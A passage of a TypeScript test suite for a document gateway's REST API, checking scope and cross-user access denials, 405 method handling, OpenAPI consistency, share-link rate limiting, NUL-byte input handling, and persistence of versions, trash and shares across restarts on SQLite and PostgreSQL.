    expect((await reader.get(`${doc(record.id)}/versions`)).status).toBe(200);
    expect((await reader.get(`${doc(record.id)}/versions/1`)).status).toBe(200);
    expect((await reader.get(`${doc(record.id)}/shares`)).status).toBe(200);
    expect((await reader.get("/api/v1/trash")).status).toBe(200);

    for (const scopes of [["docs:write"], []]) {
      const blind = client(tg.url, await tg.key({ user: "alice", scopes }));
      for (const path of [
        `${doc(record.id)}/versions`,
        `${doc(record.id)}/versions/1`,
        `${doc(record.id)}/versions/1/content`,
        `${doc(record.id)}/shares`,
        "/api/v1/trash",
      ]) {
        const response = await blind.get(path);
        expect({ path, scopes, status: response.status }).toEqual({ path, scopes, status: 403 });
        expect(response.headers.get("www-authenticate")).toContain('scope="docs:read"');
      }
    }
    for (const [path, method] of [
      [`${doc(record.id)}/versions`, "GET"],
      ["/api/v1/trash", "GET"],
      [`/api/v1/trash/${trashed.id}/restore`, "POST"],
      [`${doc(record.id)}/shares`, "POST"],
    ] as const) {
      const response = await anonymous.call(path, { method });
      await errorOf(response, 401, "UNAUTHENTICATED");
    }
    // Nothing changed.
    expect(await alice.text(record.id)).toMatchObject({ version: 1, name: "Scoped" });
    expect(((await (await alice.get("/api/v1/trash")).json()) as { documents: { id: string }[] }).documents.map((d) => d.id)).toContain(
      trashed.id,
    );
  });

  it("another user's document ids → 404 on every new route, and nothing changes", async () => {
    const record = await alice.create("Alice's", "# Private\n");
    await alice.put(doc(record.id), { markdown: "# Private v2\n" });
    const share = (await (await alice.post(`${doc(record.id)}/shares`, {})).json()) as { id: string; url: string };
    const trashed = await alice.create("Alice's trash", "x");
    await alice.del(doc(trashed.id));
    const docx = await alice.bytes(`${doc(record.id)}/content`);

    const attempts: [string, () => Promise<Response>][] = [
      ["GET ?format=markdown", () => bob.get(`${doc(record.id)}?format=markdown`)],
      ["PUT", () => bob.put(doc(record.id), { markdown: "# mine" })],
      ["PUT If-Match", () => bob.put(doc(record.id), { markdown: "# mine" }, { "if-match": '"v2"' })],
      ["PUT multipart", () => bob.form("PUT", doc(record.id), {}, { bytes: docx, name: "x.docx" })],
      ["PATCH", () => bob.patch(doc(record.id), { name: "mine" })],
      ["DELETE", () => bob.del(doc(record.id))],
      ["versions", () => bob.get(`${doc(record.id)}/versions`)],
      ["version 1", () => bob.get(`${doc(record.id)}/versions/1`)],
      ["version 1 content", () => bob.get(`${doc(record.id)}/versions/1/content`)],
      ["restore version", () => bob.call(`${doc(record.id)}/versions/1/restore`, { method: "POST" })],
      ["shares", () => bob.get(`${doc(record.id)}/shares`)],
      ["share", () => bob.post(`${doc(record.id)}/shares`, {})],
      ["revoke", () => bob.del(`${doc(record.id)}/shares/${share.id}`)],
      ["trash restore", () => bob.call(`/api/v1/trash/${trashed.id}/restore`, { method: "POST" })],
      ["trash purge", () => bob.del(`/api/v1/trash/${trashed.id}`)],
    ];
    for (const [what, call] of attempts) {
      const response = await call();
      expect({ what, status: response.status }).toEqual({ what, status: 404 });
      expect(((await response.json()) as ErrorBody).error.code).toBe("NOT_FOUND");
    }
    // Bob revoking with his own document's id and Alice's share id is no better.
    const bobs = await bob.create("Bob's", "x");
    await errorOf(await bob.del(`${doc(bobs.id)}/shares/${share.id}`), 404, "NOT_FOUND");
    expect(((await (await bob.get("/api/v1/trash")).json()) as { documents: unknown[] }).documents).toEqual([]);

    expect(await alice.text(record.id)).toMatchObject({ version: 2, name: "Alice's", text: "Private v2" });
    expect((await anonymous.get(share.url)).status).toBe(200);
    expect(((await (await alice.get(`${doc(record.id)}/shares`)).json()) as { shares: unknown[] }).shares).toHaveLength(1);
    expect(((await (await alice.get("/api/v1/trash")).json()) as { documents: { id: string }[] }).documents.map((d) => d.id)).toContain(
      trashed.id,
    );
  });
});

describe("methods", () => {
  it("405 with Allow on wrong methods of the new paths", async () => {
    const record = await alice.create("Methods", "x");
    const share = (await (await alice.post(`${doc(record.id)}/shares`, {})).json()) as { id: string; url: string };
    const cases: [string, string, string][] = [
      [doc(record.id), "POST", "GET, PUT, PATCH, DELETE, HEAD"],
      [`${doc(record.id)}/versions`, "POST", "GET, HEAD"],
      [`${doc(record.id)}/versions/1`, "DELETE", "GET, HEAD"],
      [`${doc(record.id)}/versions/1/content`, "PUT", "GET, HEAD"],
      [`${doc(record.id)}/versions/1/restore`, "GET", "POST"],
      [`${doc(record.id)}/shares`, "PUT", "GET, POST, HEAD"],
      [`${doc(record.id)}/shares/${share.id}`, "GET", "DELETE"],
      ["/api/v1/trash", "POST", "GET, HEAD"],
      [`/api/v1/trash/${record.id}`, "GET", "DELETE"],
      [`/api/v1/trash/${record.id}/restore`, "GET", "POST"],
      [share.url, "POST", "GET, HEAD"],
      [`${share.url}/content`, "DELETE", "GET, HEAD"],
    ];
    for (const [path, method, allow] of cases) {
      const response = await alice.call(path, { method });
      expect({ path, method, status: response.status, allow: response.headers.get("allow") }).toEqual({ path, method, status: 405, allow });
      expect(((await response.json()) as ErrorBody).error.code).toBe("METHOD_NOT_ALLOWED");
    }
  });
});

describe("OpenAPI and the routes agree", () => {
  it("every path's documented methods are what its 405 allows (HEAD aside)", async () => {
    const openapi = (await (await fetch(`${tg.url}/api/v1/openapi.json`)).json()) as { paths: Record<string, Record<string, unknown>> };
    const living = Object.keys(openapi.paths).filter((path) =>
      /\/(versions|shares|shared|trash)|^\/api\/v1\/documents\/\{id\}$/.test(path),
    );
    expect(living.length).toBeGreaterThanOrEqual(11);
    for (const path of living) {
      const concrete = path
        .replace("{id}", "doc_01JD7Q6R1V2S3T4U5W6X7Y8Z9A")
        .replace("{version}", "1")
        .replace("{shareId}", "shr_x")
        .replace("{token}", "wgs_x");
      const response = await alice.call(concrete, { method: "OPTIONS" });
      expect(response.status).toBe(405);
      const allowed = (response.headers.get("allow") ?? "")
        .split(", ")
        .filter((m) => m !== "HEAD")
        .sort();
      const documented = Object.keys(openapi.paths[path]!)
        .map((m) => m.toUpperCase())
        .sort();
      expect({ path, allowed }).toEqual({ path, allowed: documented });
    }
  });
});

/** A gateway on `dataDir` (and `env`) that can be stopped without removing it (the helper's close() does). */
async function startOn(dataDir: string, env: Record<string, string> = {}) {
  const config = loadConfig({
    DATA_DIR: dataDir,
    PORT: "0",
    LOG_LEVEL: "silent",
    RATE_LIMIT_PER_MINUTE: "0",
    AUTH_FAILURES_PER_MINUTE: "0",
    ...env,
  });
  const gateway = await createGateway(config);
  const running = await listen(gateway, { port: 0, host: "127.0.0.1", shutdownTimeoutMs: 2_000 });
  return { url: running.url, gateway, stop: () => running.stop() };
}

describe("share links are rate-limited per client address", () => {
  it("over RATE_LIMIT_PER_MINUTE → 429 with Retry-After", async () => {
    const limited = await startTestGateway({ RATE_LIMIT_PER_MINUTE: "3" });
    try {
      const owner = client(limited.url, await limited.key({ user: "limited" }));
      const record = await owner.create("Limited", "x");
      const share = (await (await owner.post(`${doc(record.id)}/shares`, {})).json()) as { url: string };
      const statuses: number[] = [];
      let last: Response | undefined;
      for (let i = 0; i < 5; i++) {
        last = await fetch(`${limited.url}${share.url}`);
        statuses.push(last.status);
        if (last.status === 429) break;
        await last.arrayBuffer();
      }
      expect(statuses).toEqual([200, 200, 200, 429]);
      expect(Number(last!.headers.get("retry-after"))).toBeGreaterThan(0);
      await errorOf(last!, 429, "RATE_LIMITED");
    } finally {
      await limited.close();
    }
  });
});

describe("PostgreSQL store behind the gateway", () => {
  const { databaseUrl } = usePostgresSchema("rest_living");

  it("one winner among concurrent PUTs; versions, trash and shares survive a restart", async () => {
    const dataDir = await mkdtemp(join(tmpdir(), "wg-rest-pg-"));
    try {
      let running = await startOn(dataDir, { DATABASE_URL: databaseUrl });
      expect(running.gateway.store.kind).toBe("postgres");
      const { key } = await createApiKey(running.gateway.store, {
        userId: "dave",
        tenant: null,
        scopes: ["docs:read", "docs:write"],
        expiresInMs: null,
      });
      let dave = client(running.url, key);
      const record = await dave.create("PG race", "# Start\n");
      for (let round = 1; round <= 3; round++) {
        const results = await Promise.all(
          ["A", "B", "C", "D"].map((who) => dave.put(doc(record.id), { markdown: `# ${who}${round}\n` }, { "if-match": `"v${round}"` })),
        );
        expect(results.map((r) => r.status).sort()).toEqual([200, 412, 412, 412]);
        for (const r of results) await r.arrayBuffer();
      }
      const versionsBefore = (await (await dave.get(`${doc(record.id)}/versions`)).json()) as { versions: VersionBody[] };
      expect(versionsBefore.versions.map((v) => v.version)).toEqual([4, 3, 2, 1]);
      // A version cursor past PostgreSQL's integer range is no 500.
      const farCursor = await dave.get(`${doc(record.id)}/versions?cursor=${documentItems.versionCursors.encode(99_999_999_999)}`);
      expect(farCursor.status).toBe(200);
      expect(await farCursor.json()).toEqual(versionsBefore);
      const v1 = await dave.bytes(`${doc(record.id)}/versions/1/content`);
      const share = (await (await dave.post(`${doc(record.id)}/shares`, {})).json()) as { url: string };
      const binned = await dave.create("PG bin", "Bin");
      expect((await dave.del(doc(binned.id))).status).toBe(204);
      const trashBefore = await (await dave.get("/api/v1/trash")).json();
      await running.stop();

      running = await startOn(dataDir, { DATABASE_URL: databaseUrl });
      dave = client(running.url, key);
      try {
        expect(await (await dave.get(`${doc(record.id)}/versions`)).json()).toEqual(versionsBefore);
        expect(await (await dave.get("/api/v1/trash")).json()).toEqual(trashBefore);
        same(await dave.bytes(`${doc(record.id)}/versions/1/content`), v1);
        expect((await fetch(`${running.url}${share.url}`)).status).toBe(200);
        expect((await dave.call(`/api/v1/trash/${binned.id}/restore`, { method: "POST" })).status).toBe(200);
        expect((await dave.del(doc(binned.id))).status).toBe(204);
        expect((await dave.del(`/api/v1/trash/${binned.id}`)).status).toBe(204);
        await errorOf(await dave.call(`/api/v1/trash/${binned.id}/restore`, { method: "POST" }), 404, "NOT_FOUND");
        expect(
          (await dave.call(`${doc(record.id)}/versions/1/restore`, { method: "POST", headers: { "if-match": '"v4"' } })).headers.get(
            "etag",
          ),
        ).toBe('"v5"');
        same(await dave.bytes(`${doc(record.id)}/content`), v1);
      } finally {
        await running.stop();
      }
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});

describe.each([
  ["SQLite", false],
  ["PostgreSQL", true],
] as const)("input PostgreSQL text cannot hold, on %s", (_name, postgres) => {
  const { databaseUrl } = usePostgresSchema("rest_living_nul");

  it("NUL in markdown is stored as U+FFFD (as CommonMark reads it); in a .docx it is 415; in a name query or a share id it matches nothing; no 500s", async () => {
    const gateway = await startTestGateway(postgres ? { DATABASE_URL: databaseUrl } : {});
    try {
      const owner = client(gateway.url, await gateway.key({ user: "nul" }));
      const created = await owner.post("/api/v1/documents", { name: "Nul", markdown: "# A\u0000B\n\n`c\u0000d`" });
      expect(created.status).toBe(201);
      const record = (await created.json()) as Record_;
      expect((await owner.text(record.id, "?format=markdown")).text).toBe("# A\uFFFDB\n\n`c\uFFFDd`");
      expect((await owner.text(record.id)).text).not.toContain("\u0000");
      const updated = await owner.put(doc(record.id), { markdown: "x\u0000y" });
      expect(updated.status).toBe(200);
      expect((await owner.text(record.id, "?format=markdown")).text).toBe("x\uFFFDy");
      expect((await owner.text(record.id, "/versions/1?format=markdown")).text).toBe("# A\uFFFDB\n\n`c\uFFFDd`");

      for (const path of ["/api/v1/documents?query=a%00", "/api/v1/trash?query=a%00"]) {
        const response = await owner.get(path);
        expect({ path, status: response.status }).toEqual({ path, status: 200 });
        expect(((await response.json()) as { documents: unknown[] }).documents).toEqual([]);
      }
      // A .docx whose XML holds U+0000 (not well-formed XML): 415 on import and on replace, nothing stored.
      const good = await renderedDocx("# Title\n\nHello world.\n");
      for (const nul of ["&#0;", "\u0000"]) {
        const bad = rewrite(good, { "word/document.xml": (xml) => xml.replace("Hello world.", `Hello${nul}world.`) });
        await errorOf(
          await owner.form("POST", "/api/v1/documents", { name: "Nul import" }, { bytes: bad, name: "nul.docx" }),
          415,
          "UNSUPPORTED_MEDIA_TYPE",
        );
        await errorOf(await owner.form("PUT", doc(record.id), {}, { bytes: bad, name: "nul.docx" }), 415, "UNSUPPORTED_MEDIA_TYPE");
      }
      expect(await owner.ids()).toEqual([record.id]);
      expect((await owner.text(record.id)).version).toBe(2);
      await errorOf(await owner.del(`${doc(record.id)}/shares/shr%00x`), 404, "NOT_FOUND");
      await errorOf(await owner.del(`${doc(record.id)}/shares/${"x".repeat(64)}`), 404, "NOT_FOUND");
    } finally {
      await gateway.close();
    }
  });
});

describe("a restart on the same DATA_DIR", () => {
  it("keeps versions, the trash and share links", async () => {
    const dataDir = await mkdtemp(join(tmpdir(), "wg-restart-"));
    try {
      let running = await startOn(dataDir);
      const { key } = await createApiKey(running.gateway.store, {
        userId: "carol",
        tenant: null,
        scopes: ["docs:read", "docs:write"],
        expiresInMs: null,
      });
      let carol = client(running.url, key);
      const kept = await carol.create("Kept", "# One\n");
      await carol.put(doc(kept.id), { markdown: "# Two\n" });
      await carol.patch(doc(kept.id), { name: "Kept renamed" });
      const v1 = await carol.bytes(`${doc(kept.id)}/versions/1/content`);
      const share = (await (await carol.post(`${doc(kept.id)}/shares`, {})).json()) as { id: string; url: string };
      const binned = await carol.create("Binned", "# Bin\n");
      expect((await carol.del(doc(binned.id))).status).toBe(204);
      const versionsBefore = await (await carol.get(`${doc(kept.id)}/versions`)).json();
      const trashBefore = await (await carol.get("/api/v1/trash")).json();
      await running.stop();

      running = await startOn(dataDir);
      carol = client(running.url, key);
      try {
        expect(await (await carol.get(`${doc(kept.id)}/versions`)).json()).toEqual(versionsBefore);
        expect(await (await carol.get("/api/v1/trash")).json()).toEqual(trashBefore);
        same(await carol.bytes(`${doc(kept.id)}/versions/1/content`), v1);
        expect((await carol.text(kept.id, "/versions/2")).text).toBe("Two");
        expect(await carol.text(kept.id)).toMatchObject({ name: "Kept renamed", version: 3, text: "Two" });
        const shared = await fetch(`${running.url}${share.url}`);
        expect(shared.status).toBe(200);
        expect(((await shared.json()) as ReadBody).text).toBe("Two");
        const restored = await carol.call(`/api/v1/trash/${binned.id}/restore`, { method: "POST" });
        expect(restored.status).toBe(200);
        expect((await carol.text(binned.id)).text).toBe("Bin");
        // Conditional writes go on from the stored version.
        await errorOf(await carol.put(doc(kept.id), { markdown: "# stale" }, { "if-match": '"v2"' }), 412, "PRECONDITION_FAILED");
        expect((await carol.put(doc(kept.id), { markdown: "# Four" }, { "if-match": '"v3"' })).headers.get("etag")).toBe('"v4"');
      } finally {
        await running.stop();
      }
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});
